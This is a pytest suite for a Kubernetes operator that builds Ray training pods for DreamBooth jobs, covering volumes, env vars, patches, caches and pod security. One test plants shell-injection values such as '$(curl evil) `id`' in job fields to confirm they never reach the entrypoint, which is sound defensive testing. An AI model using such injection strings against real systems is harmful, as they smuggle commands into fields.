"""The children of an attempt, and of the deletion of its data."""

from __future__ import annotations

import copy
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from devcluster import ControlPlane
from pydantic import ValidationError
from simulation import RUNTIME, attempt_objects, job_with
from test_crd_fuzzing import JUNK, paths_in

from dreambooth_api import environment
from dreambooth_api.job import DreamBoothJob
from dreambooth_api.runtime import Bounds, RuntimeSpec
from dreambooth_operator.controller.children.erase_job import erase_children
from dreambooth_operator.controller.children.rayjob import ENTRYPOINT
from dreambooth_operator.controller.children.strategic_merge import strategic_merge
from dreambooth_operator.controller.names import attempt_name, erase_name
from dreambooth_operator.controller.observed import Job, Runtime, read_runtime
from dreambooth_operator.controller.resolve import ResolvedJob, resolve
from dreambooth_operator.machinery.client import Api
from dreambooth_operator.resources import JOB_LABEL, RUNTIMES

BASE: dict[str, Any] = {"image": "trainer:1", "storage": {"claimName": "work"}}

HOW_TO = Path(__file__).resolve().parents[2] / "docs" / "how-to"


def resolved(job: Job, runtime: Runtime = RUNTIME) -> ResolvedJob:
    found = resolve(job, runtime, [])
    assert isinstance(found, ResolvedJob), found
    return found


def children(job: Job, runtime: Runtime = RUNTIME) -> dict[str, Any]:
    return {obj["kind"]: obj for _, obj in attempt_objects(job, 1, resolved(job, runtime))}


def test_user_text_never_reaches_a_shell() -> None:
    evil = '"; $(curl evil) `id`'
    job = job_with(
        {
            "subject": {
                "images": {"uri": "s3://b/x;$(id)"},
                "class": evil,
                "instancePrompt": f"a sks {evil}",
            },
            "output": {"uri": "s3://b/out;$(id)"},
        }
    )
    ray_job = children(job)["RayJob"]["spec"]
    assert (
        ray_job["entrypoint"]
        == ENTRYPOINT
        == ('python -m dreambooth_trainer run /etc/dreambooth/job.yaml --out "$DREAMBOOTH_OUT"')
    )
    assert "curl evil" not in str(ray_job)
    assert evil in children(job)["ConfigMap"]["data"]["job.yaml"].replace("''", "'")


def test_pods_mount_the_job_file_that_the_trainer_reads() -> None:
    job = job_with({"subject": {"images": {"pvc": {"claimName": "photos", "path": "dog"}}, "class": "dog"}})
    made = children(job)
    file = DreamBoothJob.model_validate(yaml.safe_load(made["ConfigMap"]["data"]["job.yaml"]))
    assert file.spec.subject
    assert file.spec.subject.images.uri == f"{environment.IMAGES_PATH}/0/dog"
    assert file.spec.model
    head = made["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    env = {e["name"]: e["value"] for e in head["containers"][0]["env"]}
    assert env[environment.OUT] == f"{environment.OUTPUT_PATH}/dog"
    assert env[environment.OUT_SHOWN] == "pvc://work/dog", "the location shown in the status"
    assert env[environment.ATTEMPT] == "1"
    assert env[environment.STORE] == f"{environment.OUTPUT_PATH}/.class-images"
    assert head["containers"][0]["securityContext"]["readOnlyRootFilesystem"] is True
    assert env[environment.PROGRESS_URL].endswith(".svc:8082/v1/jobs/team/dog/attempts/1")
    assert env[environment.PROGRESS_URL].startswith("https://")
    assert env[environment.PROGRESS_CA_FILE] == f"{environment.JOB_PATH}/ca.crt"
    assert made["ConfigMap"]["data"]["ca.crt"] == "a certificate"
    claims = {
        v["name"]: v["persistentVolumeClaim"]["claimName"] for v in head["volumes"] if "persistentVolumeClaim" in v
    }
    assert claims == {"images-0": "photos", "output": "work"}


def test_subjects_mount_each_volume_once() -> None:
    sources: list[dict[str, Any]] = [
        {"pvc": {"claimName": "photos", "path": "dog"}},
        {"secret": {"name": "cat"}},
        {"pvc": {"claimName": "photos"}},
        {"uri": "s3://bucket/robot"},
    ]
    subjects = [{"images": source, "class": "pet", "identifier": f"id{n}"} for n, source in enumerate(sources)]
    made = children(job_with({"subject": None, "subjects": subjects}))
    spec = DreamBoothJob.model_validate(yaml.safe_load(made["ConfigMap"]["data"]["job.yaml"])).spec
    root = environment.IMAGES_PATH
    assert [s.images.uri for s in spec.all_subjects] == [f"{root}/0/dog", f"{root}/1", f"{root}/0", "s3://bucket/robot"]
    head = made["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    volumes = [volume for volume in head["volumes"] if volume["name"].startswith("images")]
    assert volumes == [
        {"name": "images-0", "persistentVolumeClaim": {"claimName": "photos", "readOnly": True}},
        {"name": "images-1", "secret": {"secretName": "cat"}},
    ]
    mounts = [mount for mount in head["containers"][0]["volumeMounts"] if mount["name"].startswith("images")]
    assert [(mount["mountPath"], mount["readOnly"]) for mount in mounts] == [(f"{root}/0", True), (f"{root}/1", True)]


def test_class_images_are_mounted_with_the_volumes_of_the_subject() -> None:
    def uri(name: str) -> tuple[str | None, list[str]]:
        spec = {"priorPreservation": {"images": {"pvc": {"claimName": name, "path": "class/dogs"}}}}
        made = children(job_with({**spec, "subject": {"images": {"pvc": {"claimName": "photos"}}, "class": "dog"}}))
        read = DreamBoothJob.model_validate(yaml.safe_load(made["ConfigMap"]["data"]["job.yaml"])).spec
        volumes = made["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["volumes"]
        names = [volume["name"] for volume in volumes if volume["name"].startswith("images")]
        assert read.prior_preservation.images
        return read.prior_preservation.images.uri, names

    root = environment.IMAGES_PATH
    assert uri("photos") == (f"{root}/0/class/dogs", ["images-0"])
    assert uri("others") == (f"{root}/1/class/dogs", ["images-0", "images-1"])


def pods_of(job: Job, runtime: Runtime = RUNTIME) -> dict[str, dict[str, Any]]:
    """The pod templates of a job."""
    found = resolved(job, runtime)
    cluster = children(job, runtime)["RayJob"]["spec"]["rayClusterSpec"]
    return {
        "head": cluster["headGroupSpec"]["template"],
        "worker": cluster["workerGroupSpecs"][0]["template"],
        "erase": erase_children(job, found)[-1][1]["spec"]["template"],
    }


def runtime_with(pods: dict[str, Any], **spec: Any) -> Runtime:
    """RUNTIME with these settings of pods."""
    return Runtime("default", RuntimeSpec.model_validate({**BASE, "pods": pods, **spec}))


def claims_of(pod: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {v["name"]: v["persistentVolumeClaim"] for v in pod["volumes"] if "persistentVolumeClaim" in v}


def test_photos_and_output_on_one_claim_share_a_volume() -> None:
    images = {"pvc": {"claimName": "work", "path": "photos/dog"}}
    pods = pods_of(job_with({"subject": {"images": images, "class": "dog"}}))
    for name in ("head", "worker"):
        pod = pods[name]["spec"]
        assert claims_of(pod) == {"output": {"claimName": "work"}}, "two volumes of a claim hang on Kubernetes 1.34"
        mounts = [mount for mount in pod["containers"][0]["volumeMounts"] if mount["name"] == "output"]
        assert [(mount["mountPath"].count("/images"), mount.get("readOnly", False)) for mount in mounts] == [
            (0, False),
            (1, True),
        ]
        volumes = {volume["name"] for volume in pod["volumes"]}
        assert {mount["name"] for mount in pod["containers"][0]["volumeMounts"]} <= volumes


def test_autoscalers_leave_the_nodes_of_running_pods() -> None:
    for template in pods_of(job_with({})).values():
        assert template["metadata"]["annotations"] == {
            "cluster-autoscaler.kubernetes.io/safe-to-evict": "false",
            "karpenter.sh/do-not-disrupt": "true",
        }


def test_the_owner_of_files_on_a_large_volume_is_changed_once() -> None:
    for template in pods_of(job_with({})).values():
        assert template["spec"]["securityContext"]["fsGroupChangePolicy"] == "OnRootMismatch"


@pytest.mark.parametrize("gpus", [0, 1])
def test_pods_without_gpus_see_none(gpus: int) -> None:
    job = job_with({"cluster": {"resources": {"gpu": gpus}}})
    visible = {
        name: [e["value"] for e in pod["spec"]["containers"][0]["env"] if e["name"] == "NVIDIA_VISIBLE_DEVICES"]
        for name, pod in pods_of(job).items()
    }
    assert visible == {"head": ["void"], "worker": [] if gpus else ["void"], "erase": ["void"]}
    cluster = children(job)["RayJob"]["spec"]["rayClusterSpec"]
    assert cluster["headGroupSpec"]["rayStartParams"]["num-gpus"] == "0"
    assert cluster["workerGroupSpecs"][0]["rayStartParams"]["num-gpus"] == str(gpus)


@pytest.mark.parametrize(
    ("shared_memory", "store"), [("2Gi", 2**30), ("512Mi", 2**28), ("64Mi", 75 * 2**20), ("1G", 500_000_000)]
)
def test_the_object_store_is_half_of_the_shared_memory(shared_memory: str, store: int) -> None:
    cluster = children(job_with({}), runtime_with({"sharedMemory": shared_memory}))["RayJob"]["spec"]["rayClusterSpec"]
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        assert group["rayStartParams"]["object-store-memory"] == str(store)
        (shm,) = [v for v in group["template"]["spec"]["volumes"] if v["name"] == "shm"]
        assert shm["emptyDir"] == {"medium": "Memory", "sizeLimit": shared_memory}


def test_ephemeral_storage_is_requested_and_limited() -> None:
    pods = {"head": {"ephemeralStorage": "5Gi"}, "worker": {"ephemeralStorage": "50Gi"}}
    found = {
        name: pod["spec"]["containers"][0]["resources"]
        for name, pod in pods_of(job_with({}), runtime_with(pods)).items()
    }
    for name, size in {"head": "5Gi", "worker": "50Gi", "erase": None}.items():
        assert found[name]["requests"].get("ephemeral-storage") == size
        assert found[name]["limits"].get("ephemeral-storage") == size


def test_head_and_erase_pods_stay_off_the_nodes_of_workers() -> None:
    gpu, cpu = {"key": "nvidia.com/gpu", "operator": "Exists"}, {"key": "cpu", "operator": "Exists"}
    runtime = runtime_with(
        {
            "nodeSelector": {"pool": "gpu"},
            "tolerations": [gpu],
            "head": {"nodeSelector": {"pool": "cpu"}, "tolerations": [cpu]},
        },
        bounds={"nodeSelectorKeys": ["zone"]},
    )
    job = job_with({"cluster": {"nodeSelector": {"zone": "a"}, "tolerations": [gpu]}})
    found = {
        name: (pod["spec"]["nodeSelector"], pod["spec"]["tolerations"]) for name, pod in pods_of(job, runtime).items()
    }
    assert found == {
        "head": ({"pool": "cpu"}, [cpu]),
        "worker": ({"pool": "gpu", "zone": "a"}, [gpu, gpu]),
        "erase": ({"pool": "cpu"}, [cpu]),
    }
    assert "nodeSelector" not in pods_of(job_with({}))["head"]["spec"], "without a head selector, any node will do"


def test_variables_of_the_runtime_replace_defaults_but_not_those_of_the_trainer() -> None:
    token = {"secretKeyRef": {"name": "hub", "key": "token"}}
    pods = {
        "env": [{"name": "HOME", "value": "/home"}, {"name": "HF_TOKEN", "valueFrom": token}],
        "envFrom": [{"prefix": "S3_", "secretRef": {"name": "s3"}}, {"configMapRef": {"name": "proxy"}}],
    }
    runtime = runtime_with(pods, storage={"claimName": "work", "credentialsSecret": "keys"})
    for template in pods_of(job_with({}), runtime).values():
        container = template["spec"]["containers"][0]
        names = [e["name"] for e in container["env"]]
        assert len(names) == len(set(names)), "Kubernetes warns of duplicates"
        env = {e["name"]: e for e in container["env"]}
        assert env["HOME"]["value"] == "/home"
        assert env["HF_TOKEN"] == {"name": "HF_TOKEN", "valueFrom": token}
        assert container["envFrom"] == [
            {"prefix": "S3_", "secretRef": {"name": "s3"}},
            {"configMapRef": {"name": "proxy"}},
            {"secretRef": {"name": "keys"}},
        ]


@pytest.mark.parametrize(
    ("pods", "message"),
    [
        ({"env": [{"name": "DREAMBOOTH_OUT", "value": "/"}]}, "names that begin with DREAMBOOTH_ are reserved"),
        ({"env": [{"name": "A", "value": "1", "valueFrom": {}}]}, "set only one of them"),
        ({"envFrom": [{"prefix": "A_"}]}, "sets neither of configMapRef and secretRef; set one of them"),
    ],
)
def test_invalid_variables_are_named(pods: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        runtime_with(pods)


def test_metadata_and_pull_secrets_of_the_runtime_reach_all_pods() -> None:
    pods = {
        "labels": {"team": "ml", JOB_LABEL: "other"},
        "annotations": {"sidecar.istio.io/inject": "false", "karpenter.sh/do-not-disrupt": "false"},
        "imagePullSecrets": [{"name": "registry"}],
        "serviceAccountAnnotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/s3"},
    }
    job, runtime = job_with({}), runtime_with(pods)
    for template in pods_of(job, runtime).values():
        assert template["metadata"]["labels"]["team"] == "ml"
        assert template["metadata"]["labels"][JOB_LABEL] == "dog", "the operator's labels select the pods of a job"
        assert template["metadata"]["annotations"] == {
            "cluster-autoscaler.kubernetes.io/safe-to-evict": "false",
            **pods["annotations"],
        }
        assert template["spec"]["imagePullSecrets"] == pods["imagePullSecrets"]
    accounts = [
        children(job, runtime)["ServiceAccount"],
        *(obj for _, obj in erase_children(job, resolved(job, runtime)) if obj["kind"] == "ServiceAccount"),
    ]
    assert [account["metadata"]["annotations"] for account in accounts] == [pods["serviceAccountAnnotations"]] * 2


RDMA: dict[str, Any] = {
    "metadata": {"labels": {"rdma": "yes", JOB_LABEL: "other"}},
    "spec": {
        "hostNetwork": True,
        "schedulerName": "volcano",
        "volumes": [{"name": "infiniband", "hostPath": {"path": "/dev/infiniband"}}],
        "containers": [
            {
                "name": "ray-worker",
                "resources": {"limits": {"rdma/hca": 1}, "requests": {"rdma/hca": 1}},
                "securityContext": {"capabilities": {"add": ["IPC_LOCK"]}},
                "volumeMounts": [{"name": "infiniband", "mountPath": "/dev/infiniband"}],
            }
        ],
    },
}


def test_a_patch_is_merged_into_the_pods_of_one_group() -> None:
    job, runtime = job_with({}), runtime_with({"worker": {"podTemplate": RDMA}})
    before, after = pods_of(job, runtime_with({})), pods_of(job, runtime)
    assert (after["head"], after["erase"]) == (before["head"], before["erase"])
    worker, plain = after["worker"]["spec"], before["worker"]["spec"]
    assert (worker["hostNetwork"], worker["schedulerName"]) == (True, "volcano")
    assert worker["volumes"] == [*plain["volumes"], *RDMA["spec"]["volumes"]]
    (container,), (bare,) = worker["containers"], plain["containers"]
    assert container["resources"]["limits"] == {**bare["resources"]["limits"], "rdma/hca": 1}
    assert container["securityContext"] == {
        **bare["securityContext"],
        "capabilities": {"drop": ["ALL"], "add": ["IPC_LOCK"]},
    }
    assert container["env"] == bare["env"]
    assert after["worker"]["metadata"]["labels"] == {"rdma": "yes", **before["worker"]["metadata"]["labels"]}


def test_volumes_of_a_patch_share_the_claims_of_the_pod() -> None:
    volume = {"name": "more", "persistentVolumeClaim": {"claimName": "work", "readOnly": True}}
    mount = {"name": "more", "mountPath": "/more", "readOnly": True}
    patch = {"spec": {"volumes": [volume], "containers": [{"name": "ray-head", "volumeMounts": [mount]}]}}
    head = pods_of(job_with({}), runtime_with({"head": {"podTemplate": patch}}))["head"]["spec"]
    assert claims_of(head) == {"output": {"claimName": "work"}}
    assert {**mount, "name": "output"} in head["containers"][0]["volumeMounts"]


@pytest.mark.parametrize(
    ("patch", "message"),
    [
        ({"spec": {"restartPolicy": "Always"}}, "sets restartPolicy, which the operator sets"),
        ({"spec": {"volumes": [{"emptyDir": {}}]}}, "volumes.0.name"),
        ({"spec": {"containers": {"name": "ray-head"}}}, "spec.containers"),
        ({"tolerations": []}, "tolerations"),
    ],
)
def test_invalid_patches_are_named(patch: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        runtime_with({"head": {"podTemplate": patch}})


def test_any_patch_is_rejected_or_merged() -> None:
    claim = {"name": "c", "persistentVolumeClaim": {"claimName": "work"}}
    patch = {"metadata": RDMA["metadata"], "spec": {**RDMA["spec"], "volumes": [*RDMA["spec"]["volumes"], claim]}}
    patch["spec"]["containers"] = [
        *RDMA["spec"]["containers"],
        {"name": "sidecar", "volumeMounts": [{"mountPath": "/"}]},
    ]
    outcomes = {"rejected": 0, "merged": 0}
    for path in paths_in(patch):
        for junk in [*JUNK, [None], [[]], [{}], {"$patch": "delete"}, [{"name": []}], [{"mountPath": {}}]]:
            mutated: Any = copy.deepcopy(patch)
            node = mutated
            for key in path[:-1]:
                node = node[key]
            node[path[-1]] = junk
            try:
                runtime = runtime_with({"worker": {"podTemplate": mutated}})
            except ValidationError:
                outcomes["rejected"] += 1
            else:
                assert pods_of(job_with({}), runtime)["worker"]["metadata"]["labels"][JOB_LABEL] == "dog"
                outcomes["merged"] += 1
    assert min(outcomes.values()) > 100, outcomes


@pytest.mark.parametrize(
    ("target", "patch", "merged"),
    [
        ({"a": 1}, {}, {"a": 1}),
        ({"a": {"b": 1}}, {"a": {"c": 2}}, {"a": {"b": 1, "c": 2}}),
        ({"a": 1, "b": {}}, {"a": None, "b": {"$patch": "delete"}}, {}),
        ({"a": 1}, {"a": {"b": 2}}, {"a": {"b": 2}}),
        ({"args": ["a", "b"]}, {"args": ["c"]}, {"args": ["c"]}),
        ({"env": [{"name": "A", "value": "1"}]}, {"env": [{"name": "A", "value": "2"}, {"name": "B"}]},
         {"env": [{"name": "A", "value": "2"}, {"name": "B"}]}),
        ({"volumes": [{"name": "a"}, {"name": "b"}]}, {"volumes": [{"name": "a", "$patch": "delete"}]},
         {"volumes": [{"name": "b"}]}),
        ({"volumeMounts": [{"name": "a", "mountPath": "/a"}]}, {"volumeMounts": [{"mountPath": "/a", "subPath": "b"}]},
         {"volumeMounts": [{"name": "a", "mountPath": "/a", "subPath": "b"}]}),
        ({"labels": {"env": "test"}}, {"labels": {"env": "prod"}}, {"labels": {"env": "prod"}}),
        ({"tolerations": [{"key": "a"}]}, {"tolerations": [{"key": "b"}]}, {"tolerations": [{"key": "b"}]}),
        ({"ports": [{"containerPort": 1}]}, {"ports": ["x", {}, {"containerPort": [1]}]},
         {"ports": [{"containerPort": 1}, "x", {}, {"containerPort": [1]}]}),
    ],
)  # fmt: skip
def test_strategic_merge(target: dict[str, Any], patch: dict[str, Any], merged: dict[str, Any]) -> None:
    before = copy.deepcopy((target, patch))
    assert strategic_merge(target, patch) == merged
    assert (target, patch) == before


CACHES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "claim": ({"claimName": "hub"}, {"persistentVolumeClaim": {"claimName": "hub", "readOnly": True}}),
    "host": ({"hostPath": "/var/models"}, {"hostPath": {"path": "/var/models", "type": "Directory"}}),
    "image": ({"image": "r/models:1"}, {"image": {"reference": "r/models:1", "pullPolicy": "IfNotPresent"}}),
}


@pytest.mark.parametrize("kind", CACHES)
def test_the_model_cache_is_mounted_read_only(kind: str) -> None:
    cache, source = CACHES[kind]
    pods = pods_of(job_with({}), runtime_with({}, modelCache=cache))
    for template in (pods["head"], pods["worker"]):
        container = template["spec"]["containers"][0]
        assert {"name": "models", **source} in template["spec"]["volumes"]
        (mount,) = [m for m in container["volumeMounts"] if m["name"] == "models"]
        assert mount == {"name": "models", "mountPath": environment.MODELS_PATH, "readOnly": True}
        env = {e["name"]: e.get("value") for e in container["env"]}
        assert (env["HF_HOME"], env["HF_HUB_OFFLINE"]) == (environment.MODELS_PATH, "1")


def test_erasing_does_not_need_images_or_models() -> None:
    job = job_with({"subject": {"images": {"secret": {"name": "deleted"}}, "class": "dog"}})
    erase = pods_of(job, runtime_with({}, modelCache={"claimName": "hub"}))["erase"]["spec"]
    assert {volume["name"] for volume in erase["volumes"]} & {"images-0", "models"} == set()
    mounts = {mount["name"] for mount in erase["containers"][0]["volumeMounts"]}
    assert mounts == {volume["name"] for volume in erase["volumes"]}


def test_a_cache_of_folders_leaves_the_hub_alone() -> None:
    head = pods_of(job_with({}), runtime_with({}, modelCache={"claimName": "hub", "layout": "Folders"}))["head"]["spec"]
    assert not [e for e in head["containers"][0]["env"] if e["name"].startswith("HF_")]


def test_photos_output_and_cache_on_one_claim_are_one_volume() -> None:
    images = {"pvc": {"claimName": "work", "path": "photos"}}
    job = job_with({"subject": {"images": images, "class": "dog"}})
    runtime = runtime_with({}, modelCache={"claimName": "work", "path": "models/hub"})
    pods = pods_of(job, runtime)
    for template in (pods["head"], pods["worker"]):
        assert claims_of(template["spec"]) == {"output": {"claimName": "work"}}
        mounts = {m["mountPath"]: m for m in template["spec"]["containers"][0]["volumeMounts"]}
        assert mounts[environment.MODELS_PATH] == {
            "name": "output",
            "mountPath": environment.MODELS_PATH,
            "readOnly": True,
            "subPath": "models/hub",
        }


@pytest.mark.parametrize(
    ("cache", "message"),
    [
        ({}, "sets nothing; set exactly one of claimName, hostPath, image"),
        ({"claimName": "a", "image": "b"}, "sets claimName and image; set exactly one of"),
        ({"image": "b", "path": "a"}, "is a folder in the volume of claimName, and image is set; remove path"),
        ({"hostPath": "models"}, "hostPath"),
    ],
)
def test_invalid_caches_are_named(cache: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        runtime_with({}, modelCache=cache)


def test_pods_of_ray_have_time_to_save_a_checkpoint_before_they_end() -> None:
    cluster = children(job_with({}))["RayJob"]["spec"]["rayClusterSpec"]
    for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]):
        pod = group["template"]["spec"]
        hook = pod["containers"][0]["lifecycle"]["preStop"]["exec"]["command"]
        assert hook == ["python", "-m", "dreambooth_trainer.cluster.pre_stop"]
        assert pod["terminationGracePeriodSeconds"] > environment.SAVE_SECONDS
    (erase,) = [obj for _, obj in erase_children(job_with({}), resolved(job_with({}))) if obj["kind"] == "Job"]
    pod = erase["spec"]["template"]["spec"]
    assert "lifecycle" not in pod["containers"][0]
    assert "terminationGracePeriodSeconds" not in pod


def test_a_worker_that_waits_for_the_head_ends_at_once() -> None:
    cluster = children(job_with({}))["RayJob"]["spec"]["rayClusterSpec"]
    head, worker = (group["template"]["spec"] for group in (cluster["headGroupSpec"], *cluster["workerGroupSpecs"]))
    assert worker["shareProcessNamespace"], "the shell of KubeRay's init container is not process 1, and gets SIGTERM"
    assert "shareProcessNamespace" not in head, "the autoscaler's token stays in its container"


@pytest.mark.parametrize("name", ["dog", "3dogs", "a" * 63, "a-" * 31 + "a", "-"])
def test_names_are_valid_for_kuberay_and_unique_per_attempt(name: str) -> None:
    job = job_with({}, name=name)
    names = [attempt_name(job, attempt) for attempt in (1, 2, 999)] + [erase_name(job)]
    assert len(set(names)) == 4
    assert all(len(each) <= 47 and re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", each) for each in names)


def test_builders_do_not_change_their_arguments() -> None:
    job = job_with({"cluster": {"nodeSelector": {"a": "b"}, "tolerations": [{"key": "x", "operator": "Exists"}]}})
    assert RUNTIME.spec
    bounds = Bounds(node_selector_keys=["a"], toleration_keys=["x"])
    found = resolved(job, replace(RUNTIME, spec=RUNTIME.spec.model_copy(update={"bounds": bounds})))
    before = copy.deepcopy(found)
    first = attempt_objects(job, 1, found)
    for _, obj in first:
        obj.clear()
    assert found == before
    assert attempt_objects(job, 1, found) == attempt_objects(job, 1, before)


SHAPES: list[dict[str, Any]] = [
    {"pods": {"worker": {"podTemplate": RDMA, "ephemeralStorage": "50Gi"}}},
    {"pods": {"head": {"nodeSelector": {"pool": "cpu"}, "tolerations": [{"operator": "Exists"}]}}},
    {
        "pods": {
            "env": [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hub", "key": "token"}}}],
            "envFrom": [{"prefix": "A_", "configMapRef": {"name": "a"}}],
            "imagePullSecrets": [{"name": "registry"}],
            "labels": {"team": "ml"},
            "annotations": {"a/b": "c"},
            "serviceAccountAnnotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/s3"},
        }
    },
    *({"modelCache": cache} for cache, _ in CACHES.values()),
]
PAGES = ("air-gapped", "networks", "pods")
DOCUMENTED = [
    pytest.param(yaml.safe_load(block)["spec"], id=f"{page}-{number}")
    for page in PAGES
    for number, block in enumerate(re.findall(r"^```yaml\n(.*?)^```", (HOW_TO / f"{page}.md").read_text(), re.M | re.S))
]


@pytest.mark.parametrize("spec", DOCUMENTED)
def test_documented_patches_change_only_their_containers(spec: dict[str, Any]) -> None:
    worker = pods_of(job_with({}), Runtime("default", RuntimeSpec.model_validate({**BASE, **spec})))["worker"]["spec"]
    ray, *sidecars = worker["containers"]
    assert ray["name"] == "ray-worker", "KubeRay starts Ray in the first container"
    assert all("image" in container for container in (ray, *sidecars))
    mounted = {mount["name"] for container in worker["containers"] for mount in container["volumeMounts"]}
    assert mounted == {volume["name"] for volume in worker["volumes"]}
    assert ray["securityContext"]["readOnlyRootFilesystem"] is True


@pytest.mark.parametrize("shape", [*SHAPES, *DOCUMENTED], ids=str)
async def test_the_api_server_accepts_pods_of_every_shape(api: Api, namespace: str, shape: dict[str, Any]) -> None:
    runtime = {
        "apiVersion": RUNTIMES.api_version,
        "kind": RUNTIMES.kind,
        "metadata": {"name": "shape"},
        "spec": {**BASE, **shape},
    }
    strict = {"dryRun": "All", "fieldValidation": "Strict"}
    stored = read_runtime(await api.request("POST", RUNTIMES.path(), query=strict, body=runtime))
    assert stored.spec == RuntimeSpec.model_validate(runtime["spec"])
    job = job_with({})
    found = resolved(job, stored)
    for resource, obj in [*attempt_objects(job, 1, found), *erase_children(job, found)]:
        here = {**obj, "metadata": {**obj["metadata"], "namespace": namespace}}
        await api.request("POST", resource.path(namespace), query=strict, body=here)


def test_pods_satisfy_the_restricted_pod_security_standard(plane: ControlPlane, namespace: str) -> None:
    job = job_with({"cluster": {"elastic": {"minWorkers": 1, "maxWorkers": 2}}})
    cluster = children(job)["RayJob"]["spec"]["rayClusterSpec"]
    templates = {
        "head": cluster["headGroupSpec"]["template"],
        "worker": cluster["workerGroupSpecs"][0]["template"],
        "erase": erase_children(job, resolved(job))[-1][1]["spec"]["template"],
    }
    plane.kubectl("create", "serviceaccount", templates["head"]["spec"]["serviceAccountName"], "-n", namespace)
    for name, template in templates.items():
        plane.apply({"apiVersion": "v1", "kind": "Pod", **template, "metadata": {"name": name, "namespace": namespace}})
